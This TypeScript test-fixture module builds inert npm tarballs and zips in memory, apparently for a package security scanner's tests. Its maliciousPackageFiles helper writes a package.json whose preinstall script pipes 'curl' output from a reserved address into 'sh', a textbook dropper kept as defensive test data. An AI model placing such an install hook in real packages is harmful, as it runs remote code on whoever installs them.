/**
 * Small inert archive fixtures generated in memory for tests: npm-style tarballs (tar-stream +
 * zlib) and zips (fflate). Nothing here ever writes outside a temp folder or runs what it builds.
 */
import { createHash } from 'node:crypto';
import { gzipSync } from 'node:zlib';
import { type Zippable, zipSync } from 'fflate';
import * as tarStream from 'tar-stream';

export type TarEntryType =
  | 'file'
  | 'directory'
  | 'symlink'
  | 'link'
  | 'character-device'
  | 'block-device'
  | 'fifo';

/** One raw tar entry; `name` is written exactly as given (no `package/` prefix added). */
export interface TarEntry {
  name: string;
  content?: string | Buffer;
  type?: TarEntryType;
  linkname?: string;
  mode?: number;
}

export interface TarOptions {
  /** gzip the tar (default true, like npm tarballs). */
  gzip?: boolean;
  /** Folder every `files` path is put under (default `package`, as npm pack does). */
  root?: string;
}

/** A map of package-relative paths to contents, or raw entries (for links, devices, traversal...). */
export type TarFiles = Record<string, string | Buffer> | TarEntry[];

function toEntries(files: TarFiles, root: string): TarEntry[] {
  if (Array.isArray(files)) return files;
  return Object.entries(files).map(([name, content]) => ({
    name: root ? `${root}/${name}` : name,
    content,
  }));
}

/** Builds a (gzipped) tarball in memory, entries in the given order (duplicates allowed). */
export async function makeTarball(files: TarFiles, options: TarOptions = {}): Promise<Buffer> {
  const entries = toEntries(files, options.root ?? 'package');
  const pack = tarStream.pack();
  const chunks: Buffer[] = [];
  const done = new Promise<void>((resolve, reject) => {
    pack.on('data', (c: unknown) => {
      chunks.push(c as Buffer);
    });
    pack.on('end', () => resolve());
    pack.on('error', reject);
  });
  for (const e of entries) {
    const type = e.type ?? 'file';
    const data = e.content === undefined ? Buffer.alloc(0) : Buffer.from(e.content);
    const header: Partial<tarStream.Header> & { name: string } = {
      name: e.name,
      type,
      mode: e.mode ?? (type === 'directory' ? 0o755 : 0o644),
      mtime: new Date(0),
    };
    if (e.linkname !== undefined) header.linkname = e.linkname;
    if (type === 'file') {
      header.size = data.length;
      pack.entry(header, data);
    } else {
      header.size = 0;
      pack.entry(header);
    }
  }
  pack.finalize();
  await done;
  const tar = Buffer.concat(chunks);
  return options.gzip === false ? tar : gzipSync(tar);
}

/** A package.json text for a fixture package. */
export function packageJson(fields: Record<string, unknown> = {}): string {
  return JSON.stringify({ name: 'fixture-pkg', version: '1.0.0', main: 'index.js', ...fields }, null, 2);
}

/** A small, plainly benign library package. */
export function benignPackageFiles(name = 'fixture-benign', version = '1.0.0'): Record<string, string> {
  return {
    'package.json': packageJson({ name, version, description: 'adds numbers', license: 'MIT' }),
    'index.js': [
      "'use strict';",
      '/** Adds two numbers. */',
      'function add(a, b) {',
      '  if (typeof a !== "number" || typeof b !== "number") throw new TypeError("numbers only");',
      '  return a + b;',
      '}',
      'module.exports = { add };',
      '',
    ].join('\n'),
    'README.md': `# ${name}\n\nAdds numbers.\n`,
  };
}

/**
 * A package whose preinstall script downloads and runs a shell script from a reserved address:
 * the textbook dropper. Inert: nothing ever runs it, and 192.0.2.1 / *.invalid are not routable.
 */
export function maliciousPackageFiles(name = 'fixture-dropper', version = '6.6.6'): Record<string, string> {
  return {
    'package.json': packageJson({
      name,
      version,
      scripts: { preinstall: 'curl -s http://192.0.2.1/x.sh | sh' },
    }),
    'index.js': 'module.exports = {};\n',
  };
}

export interface ZipEntry {
  name: string;
  content?: string | Buffer;
  /** Unix mode (with file-type bits, e.g. 0o120777 for a symlink); written as external attributes. */
  unixMode?: number;
  /** Set general-purpose flag bit 0 ("encrypted") on this entry after zipping. */
  encrypted?: boolean;
  /** Deflate level; 0 stores. Default 6. */
  level?: 0 | 1 | 2 | 3 | 4 | 5 | 6 | 7 | 8 | 9;
}

/** Builds a zip in memory with fflate; unix modes go in the external attributes (made on "unix"). */
export function makeZip(entries: ZipEntry[]): Buffer {
  const zippable: Zippable = {};
  for (const e of entries) {
    const data = e.content === undefined ? new Uint8Array(0) : new Uint8Array(Buffer.from(e.content));
    zippable[e.name] = [
      data,
      {
        level: e.level ?? 6,
        mtime: new Date('2020-01-01T00:00:00Z'),
        ...(e.unixMode !== undefined ? { os: 3, attrs: (e.unixMode & 0xffff) << 16 } : {}),
      },
    ];
  }
  const zip = Buffer.from(zipSync(zippable));
  const encrypted = new Set(entries.filter((e) => e.encrypted).map((e) => e.name));
  if (encrypted.size > 0) setEncryptedFlag(zip, encrypted);
  return zip;
}

/** Flags the named entries as encrypted in both the local headers and the central directory. */
function setEncryptedFlag(zip: Buffer, names: Set<string>): void {
  let i = 0;
  while (i + 4 <= zip.length) {
    const sig = zip.readUInt32LE(i);
    if (sig === 0x04034b50) {
      const nameLen = zip.readUInt16LE(i + 26);
      const extraLen = zip.readUInt16LE(i + 28);
      const compressed = zip.readUInt32LE(i + 18);
      const name = zip.subarray(i + 30, i + 30 + nameLen).toString('utf8');
      if (names.has(name)) zip.writeUInt16LE(zip.readUInt16LE(i + 6) | 1, i + 6);
      i += 30 + nameLen + extraLen + compressed;
    } else if (sig === 0x02014b50) {
      const nameLen = zip.readUInt16LE(i + 28);
      const extraLen = zip.readUInt16LE(i + 30);
      const commentLen = zip.readUInt16LE(i + 32);
      const name = zip.subarray(i + 46, i + 46 + nameLen).toString('utf8');
      if (names.has(name)) zip.writeUInt16LE(zip.readUInt16LE(i + 8) | 1, i + 8);
      i += 46 + nameLen + extraLen + commentLen;
    } else break;
  }
}

/** SRI sha512 and hex sha1 of bytes, as the npm registry publishes them. */
export function digests(data: Buffer): { integrity: string; shasum: string } {
  return {
    integrity: `sha512-${createHash('sha512').update(data).digest('base64')}`,
    shasum: createHash('sha1').update(data).digest('hex'),
  };
}
